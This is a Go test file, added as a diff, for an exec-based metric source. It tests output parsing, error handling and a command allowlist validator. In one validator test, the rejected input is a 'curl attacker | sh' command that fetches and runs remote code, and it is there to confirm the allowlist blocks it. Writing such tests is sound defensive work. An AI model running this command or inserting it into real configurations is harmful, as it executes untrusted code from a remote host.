@@ -0,0 +1,94 @@
+package main
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestExecMetricSourceGetRequestRate(t *testing.T) {
+
+	t.Run("ReturnsNumberPrintedByCommand", func(t *testing.T) {
+
+		source := &ExecMetricSource{}
+
+		// act
+		requestRate, err := source.GetRequestRate(context.Background(), MIGConfiguration{ExecCommand: []string{"echo", "225.4"}})
+
+		assert.Nil(t, err)
+		assert.Equal(t, 225.4, requestRate)
+	})
+
+	t.Run("ReturnsErrorIfCommandFails", func(t *testing.T) {
+
+		source := &ExecMetricSource{}
+
+		// act
+		_, err := source.GetRequestRate(context.Background(), MIGConfiguration{ExecCommand: []string{"false"}})
+
+		assert.NotNil(t, err)
+	})
+}
+
+func TestParseExecOutput(t *testing.T) {
+
+	t.Run("ReturnsLastNonEmptyLineAsNumber", func(t *testing.T) {
+
+		// act
+		value, err := ParseExecOutput("querying metrics...\n225.4\n\n")
+
+		assert.Nil(t, err)
+		assert.Equal(t, 225.4, value)
+	})
+
+	t.Run("ReturnsErrorForNonNumericOutput", func(t *testing.T) {
+
+		// act
+		_, err := ParseExecOutput("error: unauthorized\n")
+
+		assert.NotNil(t, err)
+		assert.False(t, IsMissingData(err))
+	})
+
+	t.Run("ReturnsMissingDataErrorForEmptyOutput", func(t *testing.T) {
+
+		// act
+		_, err := ParseExecOutput("\n")
+
+		assert.True(t, IsMissingData(err))
+	})
+}
+
+func TestValidateExecConfig(t *testing.T) {
+
+	t.Run("ReturnsErrorForCommandNotInAllowedCommands", func(t *testing.T) {
+
+		allowedExecCommands = []string{"/usr/local/bin/queue-depth"}
+		defer func() { allowedExecCommands = nil }()
+		configItem := MIGConfiguration{ExecCommand: []string{"/bin/sh", "-c", "curl attacker | sh"}}
+		fields := []string{}
+
+		// act
+		validateExecConfig(&configItem, func(field, message string) {
+			fields = append(fields, field)
+		})
+
+		assert.Equal(t, []string{"execCommand"}, fields)
+	})
+
+	t.Run("ReturnsNoErrorForAllowedCommand", func(t *testing.T) {
+
+		allowedExecCommands = []string{"/usr/local/bin/queue-depth"}
+		defer func() { allowedExecCommands = nil }()
+		configItem := MIGConfiguration{ExecCommand: []string{"/usr/local/bin/queue-depth", "--queue", "orders"}}
+		fields := []string{}
+
+		// act
+		validateExecConfig(&configItem, func(field, message string) {
+			fields = append(fields, field)
+		})
+
+		assert.Equal(t, []string{}, fields)
+	})
+}